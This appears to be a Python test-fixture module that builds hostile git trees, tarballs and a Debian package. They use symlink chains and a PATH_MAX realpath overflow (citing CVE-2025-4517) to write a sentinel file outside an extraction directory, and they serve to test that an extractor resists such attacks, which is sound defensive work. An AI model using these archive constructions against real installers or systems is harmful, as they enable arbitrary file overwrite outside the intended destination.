"""Hostile sources built for tests: git trees and tarballs whose links lead out of the
destination in ways a textual check of each link cannot see."""

from __future__ import annotations

import io
import os
import stat
import subprocess
import tarfile
from pathlib import Path

import pytest

# From the destination's root, three levels up: the test's own directory when the cache is
# tmp_path/cache (its scratch directories are tmp_path/cache/tmp/<name>/). As text the
# target stays inside ("a/a/a/../../.." normalises to "."), but "a" is a link to ".".
CHAIN = "a/a/a/../../.."


def git(gitdir: Path, *args: str, stdin: bytes | None = None) -> str:
    result = subprocess.run(["git", f"--git-dir={gitdir}", *args], input=stdin, capture_output=True, check=True)
    return result.stdout.decode().strip()


def link_chain_repo(path: Path, tag: str = "v0.3.2", chain: str = CHAIN, name: bytes = b"evil") -> tuple[Path, str]:
    """A bare repository whose tagged tree holds ``a -> .``, ``b -> CHAIN`` and a file
    ``b/sentinel/<name>`` (git's tree format allows the duplicate name ``b``): exporting
    it naively writes ``<three levels up>/sentinel/<name>``. Returns (repo, commit)."""
    subprocess.run(["git", "init", "-q", "--bare", str(path)], check=True)
    dot = git(path, "hash-object", "-w", "--stdin", stdin=b".")
    target = git(path, "hash-object", "-w", "--stdin", stdin=chain.encode())
    evil = git(path, "hash-object", "-w", "--stdin", stdin=b"written outside\n")
    inner = git(path, "mktree", stdin=b"100644 blob " + evil.encode() + b"\t" + name + b"\n")
    middle = git(path, "mktree", stdin=f"040000 tree {inner}\tsentinel\n".encode())
    listing = f"120000 blob {dot}\ta\n120000 blob {target}\tb\n040000 tree {middle}\tb\n"
    root = git(path, "mktree", stdin=listing.encode())
    env_commit = subprocess.run(
        ["git", f"--git-dir={path}", "commit-tree", root, "-m", "release"],
        capture_output=True,
        check=True,
        env={"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@example.org", "GIT_COMMITTER_NAME": "x",
             "GIT_COMMITTER_EMAIL": "x@example.org", "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    commit = env_commit.stdout.decode().strip()
    git(path, "tag", tag, commit)
    return path, commit


def tarball(path: Path, members: list[tuple[str, bytes, str, bytes]], pax: dict[str, str] | None = None) -> Path:
    """A gzip tarball of (name, type, link target, data) members, in that order."""
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT, pax_headers=pax or {}) as tar:
        for name, kind, link, data in members:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = link
            info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
            if kind == tarfile.REGTYPE:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return path


def link_chain_tarball(path: Path, chain: str = CHAIN) -> Path:
    """The tarball form of the attack: ``a -> .``, ``b -> CHAIN``, then ``b/sentinel/evil``."""
    top = "kube-router-0.3.2"
    return tarball(
        path,
        [
            (top, tarfile.DIRTYPE, "", b""),
            (f"{top}/a", tarfile.SYMTYPE, ".", b""),
            (f"{top}/b", tarfile.SYMTYPE, chain, b""),
            (f"{top}/b/sentinel/evil", tarfile.REGTYPE, "", b"written outside\n"),
        ],
    )


def realpath_overflow_tarball(path: Path, escape_to: str = "../../sentinel") -> Path:
    """The 2025 bypass of tarfile's data filter (CVE-2025-4517 and kin): directories with
    long names and a symlink chain make the real path longer than PATH_MAX, where
    ``os.path.realpath`` gives up and answers as text. ``escape`` then looks inside to the
    filter and to a textual check, but leads to ``escape_to`` from the destination, and
    ``escape/evil`` is written there. Uncompressed, so it can also be a .deb's data.tar."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    members: list[tuple[str, bytes, str, bytes]] = []
    prefix = ""
    for step in steps:
        members.append((f"{prefix}{comp}", tarfile.DIRTYPE, "", b""))
        members.append((f"{prefix}{step}", tarfile.SYMTYPE, comp, b""))
        prefix = f"{prefix}{comp}/"
    deep = "/".join(steps) + "/" + "l" * 254
    members.append((deep, tarfile.SYMTYPE, "../" * len(steps), b""))
    members.append(("escape", tarfile.SYMTYPE, f"{deep}/{escape_to}", b""))
    members.append(("escape/evil", tarfile.REGTYPE, "", b"written outside\n"))
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, kind, link, data in members:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = link
            info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return path


def deb(path: Path, data_tar: Path) -> Path:
    """A Debian package (an ar archive) whose data member is ``data_tar``."""

    def member(name: str, data: bytes) -> bytes:
        header = f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{len(data):<10}`\n".encode()
        return header + data + (b"\n" if len(data) % 2 else b"")

    control = io.BytesIO()
    with tarfile.open(fileobj=control, mode="w:gz") as tar:
        fields = b"Package: linux-image-evil\nVersion: 1\nArchitecture: amd64\n"
        info = tarfile.TarInfo("./control")
        info.size = len(fields)
        tar.addfile(info, io.BytesIO(fields))
    body = data_tar.read_bytes()
    path.write_bytes(
        b"!<arch>\n"
        + member("debian-binary", b"2.0\n")
        + member("control.tar.gz", control.getvalue())
        + member("data.tar", body)
    )
    return path


def null_device(path: Path) -> Path:
    """A character device (the null device's numbers) at ``path``; skips without root."""
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("needs root to make a device node")
    return path
